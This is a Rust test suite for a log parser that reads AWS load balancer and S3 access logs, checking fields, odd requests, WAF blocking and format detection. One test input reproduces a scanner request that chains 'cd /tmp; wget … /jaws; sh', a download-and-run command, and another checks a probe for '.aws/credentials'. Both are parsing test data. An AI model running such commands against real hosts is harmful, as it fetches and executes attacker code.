//! Application Load Balancer records, cell by cell, and what the four formats of its family share.
//!
//! Intended differences from what other products make of the same records:
//! - durations of -1 stay -1, as AWS's own table has them;
//! - `blocked` follows the last action: `waf` alone means that AWS WAF refused the request.

use crate::support::{Whole, read, read_as, shared};
use haetae_event::net::ClientIpPolicy;
use haetae_event::{Columns, Dataset};
use haetae_parse::block::BlockReader;
use haetae_parse::{Format, Limits, ParseOptions, sniff};
use proptest::prelude::*;
use std::path::{Path, PathBuf};

const HEAD: &str = "https 2026-03-01T12:00:00.123456Z app/shop/50dc6c495c0c9188 192.0.2.1:2817 10.0.0.1:80 0.086 0.048 0.037 200 201 34 366";
const TAIL: &str = "TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/t/73e2 \"Root=1-2-3\" \"shop.example\" \"session-reused\" 7 2026-03-01T11:59:59.900000Z \"waf,forward\" \"https://shop.example:443/?a= b\" \"-\" \"10.0.0.1:80 10.0.0.2:80\" \"201 -\" \"Ambiguous\" \"SpaceInUri\" TID_0123";
const TRANSFORMED: &str = "\"new.example\" \"/v2/a\" \"TransformSuccess\"";

fn record(request: &str, agent: &str) -> String {
    format!("{HEAD} \"{request}\" \"{agent}\" {TAIL} {TRANSFORMED}")
}

pub fn one(line: &str) -> Whole {
    let whole = read(line.as_bytes(), &ParseOptions::default());
    assert_eq!(whole.counts.events, 1, "{:?}", whole.rejects);
    whole
}

pub fn check(whole: &Whole, row: usize, want: &[(&str, &str)]) {
    for (column, value) in want {
        assert_eq!(whole.cell(row, column), *value, "row {row}, {column}");
    }
}

#[test]
fn every_field() {
    let line = record(
        "GET https://www.shop.example:443/a/b?c=d&e=%20 HTTP/1.1",
        "curl/8.5",
    );
    let whole = one(&line);
    assert_eq!(whole.dataset, Some(Dataset::Alb));
    check(
        &whole,
        0,
        &[
            ("ts", "2026-03-01T12:00:00.123456Z"),
            ("src_ip", "192.0.2.1"),
            ("peer_ip", "192.0.2.1"),
            ("dst_host", "shop.example"),
            ("method", "GET"),
            ("uri", "/a/b?c=d&e=%20"),
            ("status", "200"),
            ("ua", "curl/8.5"),
            ("bytes_in", "34"),
            ("bytes_out", "366"),
            ("blocked", "false"),
            ("trace_id", "Root=1-2-3"),
            ("raw", line.as_str()),
            ("warnings", "∅"),
            ("type", "https"),
            ("time", "2026-03-01T12:00:00.123456Z"),
            ("elb", "app/shop/50dc6c495c0c9188"),
            ("client_port", "2817"),
            ("target_ip", "10.0.0.1"),
            ("target_port", "80"),
            ("request_processing_time", "0.086"),
            ("target_processing_time", "0.048"),
            ("response_processing_time", "0.037"),
            ("elb_status_code", "200"),
            ("target_status_code", "201"),
            ("request_url", "https://www.shop.example:443/a/b?c=d&e=%20"),
            ("request_proto", "HTTP/1.1"),
            ("ssl_cipher", "TLS_AES_128_GCM_SHA256"),
            ("ssl_protocol", "TLSv1.3"),
            (
                "target_group_arn",
                "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/t/73e2",
            ),
            ("domain_name", "shop.example"),
            ("chosen_cert_arn", "session-reused"),
            ("matched_rule_priority", "7"),
            ("request_creation_time", "2026-03-01T11:59:59.900000Z"),
            ("actions_executed", "waf,forward"),
            ("redirect_url", "https://shop.example:443/?a= b"),
            ("error_reason", "∅"),
            ("target_port_list", "10.0.0.1:80 10.0.0.2:80"),
            ("target_status_code_list", "201 -"),
            ("classification", "Ambiguous"),
            ("classification_reason", "SpaceInUri"),
            ("conn_trace_id", "TID_0123"),
            ("transformed_host", "new.example"),
            ("transformed_uri", "/v2/a"),
            ("request_transform_status", "TransformSuccess"),
            ("trailing", "∅"),
        ],
    );
}

/// Records of every age: cut behind each field, and with what nobody knows yet.
#[test]
fn records_grow() {
    let request = "GET https://www.shop.example:443/a HTTP/1.1";
    let oldest = format!("{HEAD} \"{request}\" \"curl/8.5\"");
    check(
        &one(&oldest),
        0,
        &[("uri", "/a"), ("dst_host", "www.shop.example"), ("blocked", "∅")],
    );
    let before_tid = record(request, "curl/8.5");
    let before_tid = &before_tid[..before_tid.find(" TID_").expect("a TID")];
    check(
        &one(before_tid),
        0,
        &[("classification_reason", "SpaceInUri"), ("conn_trace_id", "∅")],
    );
    let grown = format!("{} 198.51.100.7 \"new\"", record(request, "curl/8.5"));
    check(
        &one(&grown),
        0,
        &[
            ("request_transform_status", "TransformSuccess"),
            ("trailing", "198.51.100.7 \"new\""),
        ],
    );
    let fields = record(request, "curl/8.5").matches(' ').count();
    for cut in 0..fields {
        let line: Vec<&str> = grown.split(' ').take(cut).collect();
        let whole = read_as(line.join(" ").as_bytes(), Some(alb()), &ParseOptions::default());
        assert_eq!(whole.counts.lines_in, u64::from(cut > 0), "{cut} words");
    }
}

fn alb() -> Format {
    "alb".parse().expect("a format")
}

#[test]
fn requests_as_they_come() {
    for (request, method, url, proto, host, uri) in [
        (
            "- http://lb.example:80- ",
            "∅",
            "http://lb.example:80-",
            "∅",
            "lb.example",
            "∅",
        ),
        (
            "- http://lb.example:80-/ ",
            "∅",
            "http://lb.example:80-/",
            "∅",
            "lb.example",
            "/",
        ),
        (
            "- http://lb.example:80- -",
            "∅",
            "http://lb.example:80-",
            "∅",
            "lb.example",
            "∅",
        ),
        ("- - - ", "∅", "∅", "∅", "∅", "∅"),
        ("-", "∅", "∅", "∅", "∅", "∅"),
        ("", "∅", "∅", "∅", "∅", "∅"),
        (
            "GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws;sh HTTP/1.1",
            "GET",
            "http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws;sh",
            "HTTP/1.1",
            "127.0.0.1",
            "/shell?cd+/tmp;wget+ a.example/jaws;sh",
        ),
        (
            "GET http://a.example:80/x y",
            "GET",
            "http://a.example:80/x y",
            "∅",
            "a.example",
            "/x y",
        ),
        (
            "POST https://[2001:db8::1]:443/x HTTP/2.0",
            "POST",
            "https://[2001:db8::1]:443/x",
            "HTTP/2.0",
            "[2001:db8::1]",
            "/x",
        ),
        (
            "PURGE http://a.example?x=/y HTTP/1.1",
            "PURGE",
            "http://a.example?x=/y",
            "HTTP/1.1",
            "a.example",
            "?x=/y",
        ),
        (
            "GET /bare?x=http://b.example/ HTTP/1.1",
            "GET",
            "/bare?x=http://b.example/",
            "HTTP/1.1",
            "∅",
            "/bare?x=http://b.example/",
        ),
        (
            "\\x16\\x03\\x01 x",
            "∅",
            "\\x16\\x03\\x01 x",
            "∅",
            "∅",
            "\\x16\\x03\\x01 x",
        ),
        (
            "GET http://a.example:80/\"quoted\" HTTP/1.1",
            "GET",
            "http://a.example:80/\"quoted\"",
            "HTTP/1.1",
            "a.example",
            "/\"quoted\"",
        ),
        (
            "GET http://:80/ HTTP/1.1",
            "GET",
            "http://:80/",
            "HTTP/1.1",
            "∅",
            "/",
        ),
    ] {
        let line = record(request, "x").replace("\"shop.example\" \"session", "\"-\" \"session");
        check(
            &one(&line),
            0,
            &[
                ("method", method),
                ("request_url", url),
                ("request_proto", proto),
                ("dst_host", host),
                ("uri", uri),
                ("ua", "x"),
                ("conn_trace_id", "TID_0123"),
            ],
        );
    }
    let sni = record("GET https://evil.example:443/ HTTP/1.1", "x")
        .replace("\"shop.example\"", "\"shop.example:443\"");
    check(
        &one(&sni),
        0,
        &[("dst_host", "shop.example"), ("domain_name", "shop.example:443")],
    );
}

#[test]
fn user_agents_as_they_come() {
    for (logged, agent) in [
        ("-", "∅"),
        ("Hello, world", "Hello, world"),
        ("say \\x22hi\\x22 \\x5c \\n \\xzz", "say \"hi\" \\ \\n \\xzz"),
        ("a \"b\" c", "a \"b\" c"),
        ("ends in a backslash \\", "ends in a backslash \\"),
        ("\"", "\""),
        ("\\xec\\x95\\x88", "안"),
    ] {
        let whole = one(&record("GET http://a.example:80/ HTTP/1.1", logged));
        check(
            &whole,
            0,
            &[
                ("ua", agent),
                ("ssl_protocol", "TLSv1.3"),
                ("trailing", "∅"),
                ("warnings", "∅"),
            ],
        );
    }
    let whole = one(&record("GET http://a.example:80/ HTTP/1.1", "\\xff"));
    check(&whole, 0, &[("ua", "\u{fffd}"), ("warnings", "invalid_utf8")]);
}

#[test]
fn addresses_and_ports() {
    let line = record("GET http://a.example:80/ HTTP/1.1", "x");
    for (client, target, want) in [
        (
            "2001:DB8::1:2817",
            "-",
            ["2001:db8::1", "2001:DB8::1", "2817", "∅", "∅"],
        ),
        (
            "[2001:db8::1]:443",
            "[::1]:80",
            ["2001:db8::1", "2001:db8::1", "443", "::1", "80"],
        ),
        (
            "2001:db8::1",
            "10.0.0.1:-",
            ["2001:db8::1", "2001:db8::1", "∅", "10.0.0.1", "∅"],
        ),
        (
            "192.0.2.9",
            "10.0.0.1:",
            ["192.0.2.9", "192.0.2.9", "∅", "10.0.0.1", "∅"],
        ),
        ("-", "i-0abc:80", ["∅", "∅", "∅", "i-0abc", "80"]),
        (
            "::ffff:192.0.2.7:81",
            "-",
            ["192.0.2.7", "::ffff:192.0.2.7", "81", "∅", "∅"],
        ),
    ] {
        let line = line.replacen("192.0.2.1:2817 10.0.0.1:80", &format!("{client} {target}"), 1);
        let whole = one(&line);
        let columns = ["src_ip", "peer_ip", "client_port", "target_ip", "target_port"];
        let got = columns.map(|column| whole.cell(0, column));
        assert_eq!(got, want, "{client} {target}");
        assert_eq!(whole.cell(0, "warnings"), "∅");
    }
    let masked = one(&line.replacen("192.0.2.1:", "x.0.0.0:", 1));
    check(
        &masked,
        0,
        &[
            ("src_ip", "∅"),
            ("peer_ip", "x.0.0.0"),
            ("warnings", "bad_address"),
        ],
    );
    // Load balancers log no forwarded header: a trusted peer stays the client.
    let client_ip = ClientIpPolicy {
        trusted: vec!["192.0.2.0/24".parse().expect("a block")],
        header: None,
    };
    let options = ParseOptions {
        client_ip,
        ..ParseOptions::default()
    };
    assert_eq!(read(line.as_bytes(), &options).cell(0, "src_ip"), "192.0.2.1");
}

#[test]
fn what_the_firewall_refused() {
    let line = record("GET http://a.example:80/ HTTP/1.1", "x");
    for (actions, status, target, blocked) in [
        ("waf", "403", "-", "true"),
        ("waf", "429", "-", "true"),
        ("waf,forward", "403", "-", "true"),
        ("waf,forward", "403", "403", "false"),
        ("waf,fixed-response", "403", "-", "false"),
        ("waf,forward", "502", "-", "false"),
        ("waf-failed,forward", "403", "-", "false"),
        ("fixed-response", "403", "-", "false"),
        ("-", "400", "-", "false"),
    ] {
        let line = line
            .replacen("0.037 200 201", &format!("0.037 {status} {target}"), 1)
            .replacen("\"waf,forward\"", &format!("\"{actions}\""), 1);
        check(
            &one(&line),
            0,
            &[
                ("blocked", blocked),
                ("status", status),
                ("actions_executed", if actions == "-" { "∅" } else { actions }),
            ],
        );
    }
}

#[test]
fn nothing_is_null_and_minus_one_is_not() {
    let line = "http 2026-03-01T12:00:00Z app/a/b 192.0.2.1:1 - -1 -1 -1 000 - 0 272 \"- http://a.example:80- \" \"-\" - - - \"-\" \"-\" \"-\" -1 2026-03-01T12:00:00.000000Z \"-\" \"-\" \"-\" \"-\" \"-\" \"-\" \"-\" - \"-\" \"-\" \"-\"";
    let whole = one(line);
    check(
        &whole,
        0,
        &[
            ("ts", "2026-03-01T12:00:00Z"),
            ("request_processing_time", "-1"),
            ("target_processing_time", "-1"),
            ("matched_rule_priority", "-1"),
            ("elb_status_code", "0"),
            ("status", "∅"),
            ("bytes_in", "0"),
            ("blocked", "false"),
        ],
    );
    for column in [
        "ua",
        "ssl_cipher",
        "trace_id",
        "domain_name",
        "error_reason",
        "conn_trace_id",
        "transformed_uri",
        "request_transform_status",
    ] {
        assert_eq!(whole.cell(0, column), "∅", "{column}");
    }
}

#[test]
fn refusals() {
    let good = record("GET http://a.example:80/ HTTP/1.1", "x");
    let open = &good[..good.find(" HTTP/1.1").expect("a version")];
    let when = good.replacen("2026-03-01T12", "2026-13-01T12", 1);
    let kind = good.replacen("https ", "HTTPS ", 1);
    let input = [
        good.as_str(),
        open,
        &when,
        &kind,
        "x y",
        "",
        "#",
        "tls 2.0 2026-03-01T12:00:00",
    ]
    .join("\n");
    let whole = read(input.as_bytes(), &ParseOptions::default());
    assert_eq!((whole.counts.events, whole.counts.skipped), (1, 2));
    assert_eq!(
        whole.codes(),
        [
            "field_count",
            "bad_field",
            "field_count",
            "field_count",
            "field_count"
        ]
    );
    assert_eq!(whole.rejects[1].bytes, when.as_bytes());
}

/// Records of the four formats, one a line, each with odd and bad lines in between.
pub fn family() -> Vec<(&'static str, String)> {
    let odd = record("- http://a.example:80- ", "a \"b\" \\x22");
    let alb = format!(
        "{}\r\n{odd}\njunk\n\n{}\n",
        record("GET http://a.example:80/ HTTP/1.1", "x"),
        &odd[..150]
    );
    vec![
        ("alb", alb),
        ("nlb", crate::nlb::SAMPLE.to_owned()),
        ("elb", crate::elb::SAMPLE.to_owned()),
        ("s3access", crate::s3access::SAMPLE.to_owned()),
    ]
}

fn small(block_bytes: usize) -> ParseOptions {
    let limits = Limits {
        block_bytes,
        record_bytes_max: 2000,
        ..Limits::default()
    };
    ParseOptions {
        limits,
        ..ParseOptions::default()
    }
}

#[test]
fn formats_are_told_apart() {
    for (name, input) in family() {
        let found = sniff(input.as_bytes()).map(Format::as_str);
        assert_eq!(found, Some(name));
        let whole = read(input.as_bytes(), &ParseOptions::default());
        assert!(whole.counts.events > 1 && whole.counts.rejected > 0, "{name}");
        for (other, _) in family() {
            let forced = other.parse().expect("a format");
            let as_other = read_as(input.as_bytes(), Some(forced), &ParseOptions::default());
            assert_eq!(
                as_other.counts.events > 0,
                other == name,
                "{name} read as {other}"
            );
        }
    }
}

#[test]
fn connection_logs_are_nobodys() {
    for line in [
        "2026-10-04T17:05:15.514108Z 192.0.2.1 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 \"CN=a.example,O=end Entity,L=Seattle\" NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z FEF257372D5C14D4 Success TID_1",
        "2026-11-29T13:45:24.599544Z 192.0.2.1 58206 80 - - - \"-\" - - - TID_16132ed0b4112148",
        "2026-11-29T13:45:24.599544Z 192.0.2.1 58206 80 - - - \"a b c d e\" \"f\" - - - TID_1",
    ] {
        assert_eq!(sniff(line.as_bytes()).map(Format::as_str), None, "{line}");
        let whole = read_as(
            line.as_bytes(),
            Some("elb".parse().expect("a format")),
            &ParseOptions::default(),
        );
        assert_eq!(whole.codes(), ["field_count"]);
    }
}

#[test]
fn blocks_and_projections_do_not_matter() {
    for (name, input) in family() {
        let forced: Format = name.parse().expect("a format");
        let input = input.repeat(3);
        let want = read_as(input.as_bytes(), Some(forced), &small(1 << 18));
        for block_bytes in [1, 64, 333, 1000, 4096] {
            let got = read_as(input.as_bytes(), Some(forced), &small(block_bytes));
            assert_eq!(got, want, "{name} in blocks of {block_bytes}");
        }
        for column in &want.columns {
            let columns = Columns::only([column.as_str()]);
            let options = ParseOptions {
                columns,
                ..small(1 << 18)
            };
            let some = read_as(input.as_bytes(), Some(forced), &options);
            assert_eq!(some.counts, want.counts);
            assert!(some.columns.iter().all(|name| name == "ts" || name == column));
            for row in 0..want.rows.len() {
                assert_eq!(some.cell(row, column), want.cell(row, column), "{name} {column}");
            }
        }
    }
}

/// Lines made to be slow: were any field searched again from each quote, this would take minutes.
#[test]
fn hostile_lines_take_linear_time() {
    let long = |piece: &str| piece.repeat(200_000 / piece.len());
    for piece in [
        "\" ", "\"", "\" - ", " ", "\\x41", "a \"", "\" A ", "[", "] ", ":",
    ] {
        let (request, agent) = (record(&long(piece), "x"), record("GET / HTTP/1.1", &long(piece)));
        for (name, sample) in family() {
            let line = sample.lines().next().expect("a line");
            let end = line.rfind('"').unwrap_or(line.len());
            let inside = format!("{}{}{}", &line[..end], long(piece), &line[end..]);
            let input = [request.as_str(), &agent, &long(piece), &inside].join("\n");
            let forced: Format = name.parse().expect("a format");
            let whole = read_as(input.as_bytes(), Some(forced), &ParseOptions::default());
            assert_eq!(whole.counts.lines_in, 4, "{name} {piece:?}");
        }
    }
}

/// Every native column of a format is filled by some record of its sample.
#[test]
fn samples_fill_every_column() {
    for (name, input) in family() {
        let whole = read(input.as_bytes(), &ParseOptions::default());
        for (at, column) in whole.columns.iter().enumerate() {
            let filled = whole.rows.iter().any(|row| row[at].is_some());
            let rare = ["warnings", "trailing", "blocked", "error_reason"].contains(&column.as_str());
            assert!(filled || rare, "{name}: {column} is never filled");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, failure_persistence: None, ..ProptestConfig::default() })]

    /// Whatever is done to a record, it is one event or one reject.
    #[test]
    fn damaged_records_are_counted(
        which in 0usize..4,
        edits in proptest::collection::vec((any::<prop::sample::Index>(), "[ \"\\[\\]:\\\\x\u{e9}\n-]{0,3}"), 1..12),
        block in 1usize..2000,
    ) {
        let (name, mut input) = family().swap_remove(which);
        for (at, text) in edits {
            let mut at = at.index(input.len());
            while !input.is_char_boundary(at) {
                at -= 1;
            }
            input.insert_str(at, &text);
        }
        let forced: Format = name.parse().expect("a format");
        let got = read_as(input.as_bytes(), Some(forced), &small(block));
        prop_assert!(got.counts.balanced());
        prop_assert_eq!(got.counts.lines_in as usize, input.lines().count());
        prop_assert_eq!(got, read_as(input.as_bytes(), Some(forced), &small(1 << 18)));
    }

    /// Quotes in a user agent never move the fields around it.
    #[test]
    fn agents_stay_in_their_field(agent in "[ -~]{1,40}") {
        // The writer's own escape would be undone, and a forged tail cannot be told from a real one.
        prop_assume!(!agent.contains("\\x") && !agent.contains("\" ") && agent != "-");
        let whole = one(&record("GET http://a.example:80/ HTTP/1.1", &agent));
        prop_assert_eq!(whole.cell(0, "ua"), agent.as_str());
        prop_assert_eq!(whole.cell(0, "conn_trace_id"), "TID_0123");
    }
}

/// Shared files of the family: name under `aws/`, format, events, rejects, skipped.
const SHARED: &[(&str, &str, u64, u64, u64)] = &[
    (
        "elb/aws-log-parser-classic_loadbalancer_http_entry.log",
        "elb",
        1,
        0,
        0,
    ),
    (
        "elb/aws-log-parser-loadbalancer_cloudfront_forward.log",
        "alb",
        1,
        0,
        0,
    ),
    (
        "elb/aws-log-parser-loadbalancer_cloudfront_forward_h2.log",
        "alb",
        1,
        0,
        0,
    ),
    (
        "elb/aws-log-parser-loadbalancer_cloudfront_forward_refused.log",
        "alb",
        1,
        0,
        0,
    ),
    ("elb/aws-log-parser-loadbalancer_http2_entry.log", "alb", 1, 0, 0),
    (
        "elb/aws-log-parser-loadbalancer_http2_entry_auth_error.log",
        "alb",
        1,
        0,
        0,
    ),
    (
        "elb/aws-log-parser-loadbalancer_http2_entry_auth_missing.log",
        "alb",
        1,
        0,
        0,
    ),
    ("elb/aws-log-parser-loadbalancer_http_entry.log", "alb", 1, 0, 0),
    ("elb/aws-log-parser-loadbalancer_https_entry.log", "alb", 1, 0, 0),
    ("elb/aws-log-parser-loadbalancer_lambda_entry.log", "alb", 1, 0, 0),
    (
        "elb/aws-log-parser-loadbalancer_lambda_failed_entry.log",
        "alb",
        1,
        0,
        0,
    ),
    (
        "elb/aws-log-parser-loadbalancer_secured_websockets_entry.log",
        "alb",
        1,
        0,
        0,
    ),
    (
        "elb/aws-log-parser-loadbalancer_websockets_entry.log",
        "alb",
        1,
        0,
        0,
    ),
    ("elb/lambda-promtail-alb.log", "alb", 2, 0, 0),
    ("elb/lambda-promtail-nlb.log", "nlb", 2, 0, 0),
    ("elb/opensearch-catalog-alb.log", "alb", 63, 0, 0),
    ("elb/waf-security-automations-alb-masked.log", "alb", 10, 0, 1),
    ("s3access/lambda-promtail-s3.log", "s3access", 1, 0, 0),
    ("s3access/opensearch-catalog-s3.log", "s3access", 18, 0, 0),
    (
        "elastic-integrations/s3access/test-s3-server-access.log",
        "s3access",
        10,
        0,
        0,
    ),
    // A fixture of three formats in one file, which no bucket holds: most lines are of one.
    ("elastic-integrations/elb/test-alb.log", "nlb", 4, 6, 0),
];

#[test]
fn shared_samples_are_read_whole() {
    for (path, format, events, rejected, skipped) in SHARED {
        let Some(bytes) = shared(&format!("aws/{path}")) else {
            return;
        };
        assert_eq!(sniff(&bytes).map(Format::as_str), Some(*format), "{path}");
        let whole = read(bytes.as_slice(), &ParseOptions::default());
        let counts = (whole.counts.events, whole.counts.rejected, whole.counts.skipped);
        assert_eq!(
            counts,
            (*events, *rejected, *skipped),
            "{path}: {:?}",
            whole.rejects
        );
    }
}

#[test]
fn the_mixed_fixture_line_by_line() {
    let Some(bytes) = shared("aws/elastic-integrations/elb/test-alb.log") else {
        return;
    };
    let formats: Vec<Option<&str>> = bytes
        .split(|&b| b == b'\n')
        .filter(|line| !line.is_empty())
        .map(|line| sniff(line).map(Format::as_str))
        .collect();
    let (alb, nlb) = (Some("alb"), Some("nlb"));
    // Lines 7 to 9 are of connection logs.
    assert_eq!(formats, [alb, alb, nlb, nlb, nlb, nlb, None, None, None, alb]);
}

#[test]
fn real_scanner_traffic() {
    let Some(bytes) = shared("aws/elb/opensearch-catalog-alb.log") else {
        return;
    };
    let whole = read(bytes.as_slice(), &ParseOptions::default());
    check(
        &whole,
        3,
        &[
            ("ts", "2022-07-05T04:47:51.888411Z"),
            ("src_ip", "20.78.123.34"),
            ("uri", "//.aws/credentials"),
            ("dst_host", "54.186.209.42"),
            ("status", "404"),
            ("bytes_in", "471"),
            ("bytes_out", "696"),
            ("target_port_list", "192.168.81.46:80"),
            ("classification", "∅"),
        ],
    );
    check(
        &whole,
        5,
        &[
            ("classification", "Ambiguous"),
            ("classification_reason", "UndefinedContentLengthSemantics"),
        ],
    );
}

/// Heads of the shared files that are none of ours: neither as a whole nor by a line.
#[test]
fn no_other_shared_sample_is_taken() {
    if shared("aws/README.md").is_none() {
        return;
    }
    let root = std::env::var_os("HAETAE_SHARED").map_or_else(
        || PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared")),
        PathBuf::from,
    );
    let (mut open, mut files) = (vec![root.join("data")], 0);
    while let Some(path) = open.pop() {
        if path.is_dir() {
            open.extend(
                std::fs::read_dir(&path)
                    .expect("a folder")
                    .map(|entry| entry.expect("an entry").path()),
            );
            continue;
        }
        let ours = SHARED
            .iter()
            .any(|(name, ..)| path.ends_with(Path::new("aws").join(name)));
        if !ours {
            files += 1;
            not_taken(&path);
        }
    }
    assert!(files > 20, "{files} files of others");
}

fn not_taken(path: &Path) {
    let file = std::fs::File::open(path).expect("a readable sample");
    let mut blocks = BlockReader::new(file, &Limits::default());
    let Ok(Some(block)) = blocks.next_block(0) else {
        return;
    };
    let head = &block.bytes[..block.bytes.len().min(64 * 1024)];
    let ours = |format: Format| ["alb", "nlb", "elb", "s3access"].contains(&format.as_str());
    assert!(!sniff(head).is_some_and(ours), "{} as a whole", path.display());
    for line in head.split(|&b| b == b'\n').take(300) {
        assert!(
            !sniff(line).is_some_and(ours),
            "{}: {:?}",
            path.display(),
            String::from_utf8_lossy(line)
        );
    }
}
